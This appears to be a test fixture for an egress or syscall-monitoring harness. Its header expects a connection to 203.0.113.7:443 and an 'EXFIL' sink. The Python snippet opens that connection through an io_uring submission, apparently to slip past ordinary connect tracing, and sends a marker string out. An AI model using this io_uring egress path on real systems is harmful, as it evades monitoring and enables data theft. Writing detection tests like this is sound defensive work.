#: {"class": "egress", "loader": "script", "include": ["uring"], "expect": [["connect|io_uring", "203\\.0\\.113\\.7:443|io_uring"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
import struct
a = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", 443) + socket.inet_aton(EXT) + bytes(8)); s = socket.socket()
u = Uring(); r = u.do(16, s.fileno(), off=16, addr=ctypes.addressof(a))
if r == 0: s.sendall(b"EXFIL")
s.close()
